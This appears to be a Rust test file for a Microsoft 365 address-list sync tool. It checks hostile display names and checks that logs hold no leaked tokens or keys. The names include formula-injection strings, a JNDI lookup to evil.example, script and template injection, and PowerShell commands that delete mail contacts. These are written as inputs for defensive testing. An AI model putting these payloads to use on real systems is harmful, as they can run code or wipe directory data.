//! What comes from outside and means harm, or looks as if: names, addresses, and a bad day of all services at once.

use std::fmt::Write as _;

use gal::policy::MergeMode;
use m365_simulator::FaultLevel;
use regex::Regex;
use rig::collected::Collected;
use rig::people::{find, property};
use rig::{Rig, RigOptions, credential};
use serde_json::{Value, json};
use telemetry::{Format, Settings};

/// What people are called, and some only seem to be.
fn names() -> Vec<String> {
    let zalgo = format!("Zoe{}", "\u{301}\u{30a}\u{327}".repeat(20));
    let texts = [
        "\u{202e}drowssap\u{202c} Ann",
        "\u{200f}שרה כהן\u{200e}",
        "👩\u{200d}👩\u{200d}👧\u{200d}👦 Müller",
        "e\u{301}te\u{301} Ann",
        &zalgo,
        "=HYPERLINK(\"http://evil.example\",\"Ann\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "{{ 7 * 7 }} {% for x in range(9999999) %}x{% endfor %}",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "O'Brien' -or Name -like '*",
        "\"quoted\"; Remove-MailContact *",
        "$(Remove-MailContact -Identity *)",
        "a\u{1b}[31mred\u{1b}[0m",
        "line one\u{2028}line two",
        "tab\there",
        "Straße",
        "STRASSE",
        "ﬁne ligature",
        "galbridge-deadbeef",
        "NULL",
        "-Confirm:$false",
    ];
    let long = ["x".repeat(256), "👩".repeat(128), format!("{}👩", "y".repeat(254))];
    texts.into_iter().map(str::to_owned).chain(long).collect()
}

/// Published as it is called, within Exchange's limits and its trimming, or skipped or set aside with a reason.
#[tokio::test(start_paused = true)]
async fn whatever_people_are_called_they_are_published_or_their_reason_is_told() {
    let mapping = "[pairs.a_to_b.mapping]\ndisplay_name = \"{{ display_name }} (C)\"\n";
    let profile = format!("[[pairs]]\na = \"contoso\"\nb = \"fabrikam\"\n{mapping}");
    let rig = Rig::new(RigOptions { profile, ..RigOptions::default() }).await;
    let mut called = Vec::new();
    for (number, name) in names().into_iter().enumerate() {
        let address =
            if number % 2 == 0 { format!("P{number}.MiXed@Contoso.Example") } else { format!("p{number}.o'neil@contoso.example") };
        let set = json!({"DisplayName": name, "FirstName": name.chars().take(20).collect::<String>(), "PrimarySmtpAddress": address, "Title": name.chars().take(60).collect::<String>()});
        // What the directory itself refuses cannot come.
        if let Ok(made) = rig.simulator.apply_json("contoso", json!([{"op": "create", "kind": "user", "set": set}])) {
            called.push((made[0].unwrap(), name, address.to_lowercase()));
        }
    }
    assert!(called.len() > 20, "the directory takes most of them: {}", called.len());
    rig.merge(MergeMode::TwoWay).await.unwrap();
    rig.settle(6).await.unwrap();
    let there = rig.gal("fabrikam");
    let mut published = 0;
    for (anchor, name, address) in &called {
        let contact = there.iter().find(|contact| property(contact, "ExternalEmailAddress").to_lowercase().contains(address.as_str()));
        let Some(contact) = contact else {
            let told = rig.engine.explain(&rig.pair(), address).await.unwrap();
            let reasons: Vec<_> = told.iter().filter_map(|one| one.skipped.clone()).collect();
            assert!(!reasons.is_empty(), "{name:?} ({anchor}) is missing without a word: {told:#?}");
            continue;
        };
        published += 1;
        let shown = property(contact, "DisplayName");
        assert!(shown.encode_utf16().count() <= 256, "{name:?}: {} units", shown.encode_utf16().count());
        let whole = format!("{} (C)", name.trim());
        let stands = shown.trim_end_matches(" (C)").trim().to_owned();
        assert!(shown == whole || whole.starts_with(&stands) && whole.encode_utf16().count() > 256, "{name:?} is shown as {shown:?}");
    }
    assert_eq!(published, called.len(), "all of them can be said");
    assert_eq!(there.len(), published, "nobody else is there");
    // And each is what it was read as: nothing is written again and again.
    rig.recorded.take();
    rig.advance(std::time::Duration::from_secs(26 * 3600)).await;
    rig.snapshot(true).await.unwrap();
    let runs = rig.settle(4).await.unwrap();
    assert!(runs.iter().all(|run| run.counters == gal::Sides::default()), "{runs:#?}");
}

#[tokio::test(start_paused = true)]
async fn three_hundred_addresses_of_one_person_are_one_contact() {
    let rig = Rig::new(RigOptions::default()).await;
    let proxies: Vec<String> =
        (0..300).map(|number| format!("smtp:ann{number}@contoso.example")).chain(["SMTP:ann@contoso.example".to_owned()]).collect();
    let ann = rig.apply(
        "contoso",
        json!([{"op": "create", "kind": "user", "set": {"DisplayName": "Ann", "PrimarySmtpAddress": "ann@contoso.example"}}]),
    )[0]
    .unwrap();
    rig.apply("contoso", json!([{"op": "update", "anchor": ann, "set": {"EmailAddresses": proxies}}]));
    // Somebody there holds the last of them: the same person.
    let own = json!([{"op": "create", "kind": "contact", "set": {"DisplayName": "Ann (ours)", "ExternalEmailAddress": "ANN299@contoso.example"}}]);
    rig.apply("fabrikam", own);
    rig.merge(MergeMode::TwoWay).await.unwrap();
    rig.settle(6).await.unwrap();
    assert_eq!(rig.gal("fabrikam").len(), 1);
    assert!(find(&rig.gal("fabrikam"), "Ann (ours)").is_some(), "joined by an address that is not her primary one");
}

/// Everything that a bad day leaves behind holds no key, token or assertion: the log with every detail, the trace, the state with
/// all runs, answers to a person, and errors.
#[tokio::test(start_paused = true)]
async fn a_bad_day_leaves_no_secret_behind() {
    let paper = Collected::default();
    let pages = paper.clone();
    let look = Settings { format: Format::Json, ansi: false, filter: "trace".to_owned() };
    let subscriber = telemetry::subscriber(&look, move || pages.clone()).unwrap();
    let _log = tracing::subscriber::set_default(subscriber);
    let tenants = vec![("contoso".to_owned(), 40), ("fabrikam".to_owned(), 30)];
    let mut rig = Rig::new(RigOptions { tenants, faults: FaultLevel::Hostile, ..RigOptions::default() }).await;
    let mut left = String::new();
    let mut take = |what: &dyn std::fmt::Debug| {
        let _ = writeln!(left, "{what:?}");
    };
    let _ = rig.merge(MergeMode::TwoWay).await;
    for day in 0..6 {
        rig.advance(std::time::Duration::from_secs(2 * 3600)).await;
        rig.restart();
        match day {
            // The certificate is not known any more, then the consent is gone, then every answer is an error.
            1 => rig
                .simulator
                .set_faults_json(json!({"level": "hostile", "calls": [{"endpoint": "token", "do": "status", "status": 401}]}))
                .unwrap(),
            2 => rig
                .simulator
                .set_faults_json(
                    json!({"level": "hostile", "calls": [{"endpoint": "invoke", "do": "form-a", "message": "Bearer token was refused"}]}),
                )
                .unwrap(),
            3 => rig
                .simulator
                .set_faults_json(json!({"level": "hostile", "calls": [{"endpoint": "token", "do": "truncated-json"}]}))
                .unwrap(),
            _ => rig.simulator.set_faults_json(json!({"level": "hostile"})).unwrap(),
        }
        take(&rig.cycle().await);
        take(&rig.engine.act(&rig.pair(), engine::act::Action::Status, rig.deadline()).await);
    }
    let runs = rig.engine.store.runs(&rig.pair(), 100).await.unwrap();
    for run in &runs {
        take(&rig.engine.store.operations(&run.id).await);
    }
    take(&runs);
    take(&rig.engine.connections.len());
    take(&credential());
    let trace: Vec<Value> = rig.recorded.take();
    assert!(trace.len() > 100 && trace.iter().any(|line| line.to_string().contains("oauth2")), "a full day: {}", trace.len());
    for line in &trace {
        left.push_str(&line.to_string());
        left.push('\n');
    }
    rig.simulator.set_faults_json(json!({"level": "none"})).unwrap();
    left.push_str(&String::from_utf8(rig.export_state().await).unwrap());
    let log = paper.text();
    assert!(log.lines().count() > 200, "{} lines of log", log.lines().count());
    left.push_str(&log);
    let jwt = Regex::new(r"eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}").unwrap();
    assert_eq!(jwt.find(&left).map(|found| found.as_str().to_owned()), None, "a token or an assertion");
    let pem = credential().to_pem().unwrap();
    let key: Vec<&str> =
        pem.expose().split("-----BEGIN CERTIFICATE-----").next().unwrap().lines().filter(|line| !line.starts_with("---")).collect();
    assert!(key.len() > 10 && pem.expose().contains("PRIVATE KEY"));
    for line in key {
        assert!(!left.contains(line), "a line of the private key");
    }
    assert!(!left.contains("PRIVATE KEY"));
}
